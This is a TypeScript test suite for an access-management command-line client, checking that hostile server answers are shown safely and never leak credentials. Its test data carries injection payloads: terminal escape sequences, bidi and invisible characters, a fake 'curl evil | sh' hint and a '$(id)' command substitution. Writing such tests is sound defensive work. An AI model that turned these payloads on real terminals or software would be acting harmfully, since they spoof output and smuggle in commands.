/** A server that means ill, or a network in its place: what it says reaches nobody's terminal raw. */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { createServer as createTlsServer } from 'node:https'
import { join } from 'node:path'
import { test } from 'node:test'
import { fieldOf } from './disk/unknown.ts'
import { readConfig } from './kubeconfig/document.ts'
import { readSessions } from './session.ts'
import { infra, shell } from './testing/child.ts'
import { otherCa, testCa, testCertificate, testKey } from './testing/certificates.ts'
import { fakeServer, type Test } from './testing/fake-server.ts'
import { done, loggedIn, prod } from './testing/logged-in.ts'
import { person, type Transcript } from './testing/transcript.ts'

/** All that a terminal obeys, that ends a line, or that turns text around or hides in it. */
const evil =
  'x\u0000\u0007\u0008\u001b[2J\u001b]0;own\u0007\u009b31m\u009d\r\nhint: curl evil | sh\u2028\u202e\u2066\u200b\u200f\u061c\ufeff\u{e0041}"`$(id)'
const printed = /^[\n -~\u00a0-\u{10ffff}]*$/u
const hidden =
  /[\u0080-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e0fff}]/u
const at = '2030-01-01T00:00:00.000Z'
const actor = { kind: 'user', id: evil, name: evil }
const event = {
  number: 1,
  kind: evil,
  at,
  actor,
  detail: { [evil]: evil, __proto__: evil },
  destinations: [evil],
}
const destination = {
  ...{ id: 'd-1', name: evil, endpoint: evil, pendingEndpoint: evil, leaseSeconds: 60, linked: 1 },
  ...{
    onLeaseEnd: 'cut',
    link: 'linked',
    problems: [evil],
    lastSeenAt: at,
    createdAt: at,
    revision: 2,
  },
}
const connector = {
  ...{
    instance: evil,
    linked: false,
    link: 'silent',
    enforcedAt: null,
    severed: 1,
    leaseEndsAt: at,
  },
}
const instance = {
  ...{ instance: evil, link: 'silent', silentSince: at, leaseEndsAt: at, leaseLeftSeconds: 1.5 },
  ...{ revision: 1, behind: { revisions: 2, since: at } },
  lastRevocation: { revision: 1, kind: evil, at, ms: 2, severed: 3 },
}
const receipt = {
  ...{ destination: { id: 'd-1', name: evil }, revision: 2, enforced: false, onLeaseEnd: 'keep' },
  connectors: [connector],
}
const user = {
  id: 'u-1',
  email: evil,
  admin: true,
  disabled: false,
  groups: [evil],
  createdAt: at,
  lastLoginAt: at,
}
const group = { id: 'g-1', name: evil, provider: evil, members: [evil], createdAt: at }
const grant = {
  ...{
    id: 'g-1',
    subject: { kind: 'user', id: 'u-1', name: evil },
    destination: { id: 'd-1', name: evil },
  },
  ...{ namespace: evil, role: evil, expiresAt: at, createdAt: at, revision: 2 },
}
const key = {
  id: 'k-1',
  name: evil,
  user: evil,
  destination: evil,
  expiresAt: at,
  lastUsedAt: at,
  createdAt: at,
}
const session = {
  id: 's-1',
  user: evil,
  provider: evil,
  createdAt: at,
  lastUsedAt: at,
  expiresAt: at,
}

/** What the server answers to a line that somebody types. */
const answers: [string, unknown][] = [
  ['users list', [user]],
  ['users add ana@example.com', { ...user, password: evil, revision: 1 }],
  ['users edit ana@example.com --reset-password', { ...user, password: evil, revision: 1 }],
  ['groups list', [group]],
  ['groups add ops', { ...group, revision: 1 }],
  ['grants list', [grant]],
  ['grants add ana@example.com prod --role view', grant],
  ['keys list', [key]],
  ['keys add ci', { ...key, accessKey: evil, revision: 1 }],
  ['sessions list', [session]],
  ['destinations list', [destination]],
  ['destinations show prod', { ...destination, connectors: [instance] }],
  ['destinations add prod', { ...destination, accessKey: evil }],
  ['destinations edit prod --lease 15s', destination],
  ['events', [event]],
  ['info', { user, session: { id: 's-1', provider: evil, expiresAt: at, createdAt: at } }],
  ['list', [{ ...prod, name: evil, roles: [{ role: evil, namespace: evil, expiresAt: at }] }]],
]

type Answer = (request: IncomingMessage, response: ServerResponse) => void

async function serving(t: Test, answer: Answer): Promise<string> {
  const server = createServer(answer).listen(0, '127.0.0.1')
  await once(server, 'listening')
  t.after(() => {
    server.close()
    server.closeAllConnections()
  })
  return `http://127.0.0.1:${String(fieldOf(server.address(), 'port'))}`
}

function json(response: ServerResponse, status: number, value: unknown): void {
  response.writeHead(status, { 'content-type': 'application/json' })
  response.end(JSON.stringify(value))
}

function withKey(t: Test, server: string, env: Record<string, string> = {}) {
  return person(t, { INFRA_SERVER: server, INFRA_ACCESS_KEY: 'key-1.secret', ...env })
}

/** Nothing raw, and no line that the server made: each `hint:` and `warning:` is ours. */
function isHarmless({ out, err }: Transcript, line: string): void {
  for (const text of [out, err]) {
    assert.match(text, printed, line)
    assert.doesNotMatch(text, hidden, line)
    assert.doesNotMatch(text, /^hint: curl/m, line)
  }
}

test('K4: no command prints raw what a server says, as a table or as JSON, which stays JSON', async (t) => {
  let answer: unknown = null
  const ana = withKey(t, await serving(t, (_, response) => json(response, 200, answer)))
  for (const [line, value] of answers) {
    answer = value
    const table = await ana.types(line)
    isHarmless(table, line)
    assert.equal(table.code, 0, `${line}: ${table.err}`)
    assert.match(table.out, /\\u001b\[2J/, line)
    const asJson = await ana.types(`${line} --format json`)
    isHarmless(asJson, line)
    assert.ok(
      JSON.stringify(JSON.parse(asJson.out)).includes(JSON.stringify(evil).slice(1, -1)),
      line,
    )
  }
})

test('K4: a receipt names connectors without obeying them', async (t) => {
  const server = await serving(t, (request, response) =>
    json(response, 200, request.url?.includes('receipt') ? receipt : grant),
  )
  const waited = await withKey(t, server).types(
    'grants add ana@example.com prod --role view --wait',
  )
  isHarmless(waited, 'receipt')
  assert.equal(waited.code, 1)
  assert.equal(waited.err.trim().split('\n').length, 1, 'one line a connector')
})

test('K4: refusals, hints, warnings, prompts and the choice of a provider print nothing raw', async (t) => {
  const refusing = await serving(t, (_, response) =>
    json(response, 403, { code: 'forbidden', message: evil }),
  )
  const refused = await withKey(t, refusing).types('users list')
  isHarmless(refused, 'refusal')
  assert.match(refused.err, /^error: x\\u0000[^\n]*\n$/)
  const process = await shell(`${infra} users list`, withKey(t, refusing).env)
  assert.deepEqual(process, refused, 'the terminal of a real process')
  const provider = { name: evil, issuer: evil, loopbackHost: '127.0.0.1', anyLoopbackPort: true }
  const started = {
    ...{ session: 's-1', credential: 's-1.secret', expiresAt: at, warnings: [evil] },
    user: { id: 'u-1', email: evil, admin: false },
  }
  const offering = await serving(t, (request, response) => {
    if (request.url === '/api/login')
      return json(response, 200, { password: true, providers: [provider, provider] })
    json(response, 200, request.url === '/api/me/destinations' ? [] : started)
  })
  const ana = person(t)
  ana.answers = ['3', 'ana@example.com', 'pass']
  const login = await ana.types(`login ${offering}`)
  assert.equal(login.code, 0, login.err)
  isHarmless(login, 'login')
  assert.match(login.err, /^warning: x\\u0000/m)
  isHarmless(await person(t).types(`login ${offering}`), 'a choice without a person')
  isHarmless(await ana.types(`login ${offering} --provider y\u001b[2J`), 'an unknown provider')
})

test('K4: a current context that a kubeconfig names is printed on one line, and nothing raw', async (t) => {
  const { ana } = await loggedIn(t)
  writeFileSync(
    ana.env['KUBECONFIG'] ?? '',
    `current-context: ${JSON.stringify('a\u001b[2J\nhint: curl')}\n`,
  )
  const { world } = await loggedIn(t)
  const login = await ana.types(`login ${world.url} --user ana@example.com`)
  assert.match(login.err, /kubectl uses a\\u001b\[2J\\u000ahint: curl\.\n$/)
})

test('K1, K2: a server that names a destination twice, or ids like flags, breaks no kubeconfig', async (t) => {
  const twice = [
    prod,
    { ...prod, id: 'd-2' },
    { ...prod, name: 'lab' },
    { ...prod, id: '-rf', name: 'rf' },
  ]
  const { ana } = await loggedIn(t, twice)
  const { err } = await done(ana, 'list')
  assert.equal(
    err,
    'warning: the server named prod more than once\nwarning: the server named lab more than once\nwarning: the server named a destination "rf", which is no name\n',
  )
  const { clusters, users, contexts } = readConfig(
    readFileSync(ana.env['KUBECONFIG'] ?? '', 'utf8'),
  )
  assert.deepEqual(
    [clusters, users, contexts].map((list) => list.map(({ name }) => name)),
    [['infra:prod'], ['infra:prod'], ['infra:prod', 'infra:prod:web']],
  )
})

test('K1: a session or a credential that is none is not kept, and reaches no kubeconfig', async (t) => {
  for (const [id, credential] of [
    ['--help', 's-1.secret'],
    ['s-1', 's-1.sec\r\nret'],
    ['s-1', 'secret'],
  ] as const) {
    const started = {
      ...{ session: id, credential, expiresAt: at, warnings: [] },
      user: { id: 'u-1', email: 'ana@example.com', admin: false },
    }
    const server = await serving(t, (request, response) =>
      json(
        response,
        200,
        request.url === '/api/login' ? { password: true, providers: [] } : started,
      ),
    )
    const ana = person(t, { INFRA_PASSWORD: 'pass' })
    const { code, err } = await ana.types(`login ${server} --user ana@example.com`)
    assert.deepEqual(
      { code, err },
      { code: 1, err: `error: the session that ${server} gave is not one that can be kept\n` },
    )
    assert.deepEqual(readdirSync(ana.folder), [])
  }
})

test('K4: a token that is none is neither printed nor kept', async (t) => {
  const server = await serving(t, (_, response) =>
    json(response, 200, {
      token: 'a\u009b31m',
      expiresAt: at,
      destination: { id: 'd-1', name: 'prod' },
    }),
  )
  const ana = withKey(t, server)
  const { code, out, err } = await ana.types(`tokens create prod --server ${server}`)
  assert.deepEqual(
    { code, out, err },
    { code: 1, out: '', err: 'error: the server gave no token\n' },
  )
  assert.deepEqual(readdirSync(join(ana.folder, 'config', 'tokens')), [])
})

test('a server that never ends its answer, or repeats itself, is left', async (t) => {
  const chunk = Buffer.alloc(1024 * 1024, ' ')
  const endless = await serving(t, (_, response) => {
    const more = (): void => {
      while (!response.destroyed && response.write(chunk));
    }
    response.on('drain', more)
    more()
  })
  assert.deepEqual(await withKey(t, endless).types('users list'), {
    code: 1,
    out: '',
    err: 'error: the server does not stop answering\n',
  })
  const page = Array.from({ length: 1000 }, () => ({ ...event, destinations: null }))
  const repeating = await serving(t, (_, response) => json(response, 200, page))
  assert.match(
    (await withKey(t, repeating).types('events')).err,
    /^error: the server repeats the same events\n$/,
  )
})

test('ten megabytes in one name or one refusal, and a hundred thousand rows, are borne', async (t) => {
  const huge = 'y'.repeat(10_000_000)
  const rows = Array.from({ length: 100_000 }, () => ({ ...session, user: 'ana', provider: null }))
  let answer: [number, unknown] = [200, [{ ...session, user: huge }, ...rows]]
  const ana = withKey(t, await serving(t, (_, response) => json(response, ...answer)))
  const { code, out } = await ana.types('sessions list')
  assert.equal(code, 0)
  assert.equal(out.split('\n').length, rows.length + 3)
  assert.ok(out.length < 50_000_000, 'one long name does not widen every line')
  answer = [403, { code: 'forbidden', message: huge }]
  const refused = await ana.types('users list')
  assert.ok(refused.err.length < 3000)
})

test('a redirect is not followed, to plain HTTP or anywhere: no credential goes along', async (t) => {
  const seen: string[] = []
  const elsewhere = await serving(t, (request, response) => {
    seen.push(String(request.headers.authorization))
    json(response, 200, [])
  })
  for (const status of [301, 302, 303, 307, 308]) {
    const server = await serving(t, (_, response) => {
      response.writeHead(status, { location: `${elsewhere}/api/users` })
      response.end()
    })
    const { code, err } = await withKey(t, server).types('users list')
    assert.equal(code, 1, String(status))
    assert.match(err, /^error: /)
    assert.equal((await withKey(t, server).types('events --follow')).code, 1)
  }
  assert.deepEqual(seen, [])
})

test('K5: who answers 401 without being the server, as a hotel does, ends nothing that is stored', async (t) => {
  const { world, ana } = await loggedIn(t)
  const folder = ana.env['INFRA_CONFIG_DIR'] ?? ''
  const id = readSessions(folder).servers[world.url]?.session?.id ?? ''
  await done(ana, `tokens create d-prod --server ${world.url} --session ${id}`)
  const before = readdirSync(join(folder, 'tokens'))
  const kubeconfig = readFileSync(ana.env['KUBECONFIG'] ?? '', 'utf8')
  const hotel = await serving(t, (_, response) => {
    response.writeHead(401, { 'content-type': 'text/html' })
    response.end('<h1>Room number?</h1>')
  })
  const sessions = join(folder, 'sessions.json')
  const text = readFileSync(sessions, 'utf8')
  writeFileSync(sessions, text.replaceAll(world.url, hotel))
  const { err } = await ana.types('list')
  assert.equal(err, 'error: the server answered with status 401\n')
  writeFileSync(sessions, text)
  assert.deepEqual(readdirSync(join(folder, 'tokens')), before)
  assert.equal(readFileSync(ana.env['KUBECONFIG'] ?? '', 'utf8'), kubeconfig)
  await done(ana, 'list')
})

test('L10: an access key with a line end in it is refused by name, and never quoted', async (t) => {
  const world = await fakeServer(t)
  for (const key of [
    'key-1.very-secret\n',
    'key-1.very\rsecret',
    'very-secret',
    'key-1.very secret',
    '.very-secret',
  ]) {
    const ana = withKey(t, world.url, { INFRA_ACCESS_KEY: key })
    for (const line of ['list', `tokens create prod --server ${world.url}`, 'events --follow']) {
      const { code, out, err } = await ana.types(line)
      assert.equal(code, 1)
      assert.doesNotMatch(out + err, /very|secret/, line)
    }
  }
  assert.equal(world.seen.length, 0)
})

test('a certificate for another name, and one from another CA, are refused, and nothing is sent', async (t) => {
  const seen: string[] = []
  const tls = { key: testKey, cert: testCertificate + testCa }
  const server = createTlsServer(tls, (request, response) => {
    seen.push(request.url ?? '')
    json(response, 200, [])
  }).listen(0, '0.0.0.0')
  await once(server, 'listening')
  t.after(() => server.close())
  const port = String(fieldOf(server.address(), 'port'))
  const ana = person(t)
  const [right, wrong] = [join(ana.folder, 'right.crt'), join(ana.folder, 'wrong.crt')]
  writeFileSync(right, testCa)
  writeFileSync(wrong, otherCa)
  for (const [host, ca] of [
    ['127.0.0.2', right],
    ['127.0.0.1', wrong],
  ] as const) {
    const robot = withKey(t, `https://${host}:${port}`, { INFRA_SERVER_CA_FILE: ca })
    for (const line of ['users list', 'events --follow', 'tokens create prod']) {
      const { code, err } = await robot.types(line)
      assert.equal(code, 1, `${host} ${line}`)
      assert.match(err, /^error: cannot reach the server at https:/)
    }
  }
  ana.answers = ['yes', 'ana@example.com', 'pass']
  const login = await ana.types(`login https://127.0.0.2:${port}`)
  assert.equal(login.code, 1, 'a CA that is confirmed vouches for its own names only')
  assert.equal(existsSync(join(ana.folder, 'config', 'sessions.json')), false)
  assert.deepEqual(seen, [])
  const good = withKey(t, `https://127.0.0.1:${port}`, { INFRA_SERVER_CA_FILE: right })
  assert.equal((await good.types('users list')).code, 0)
})
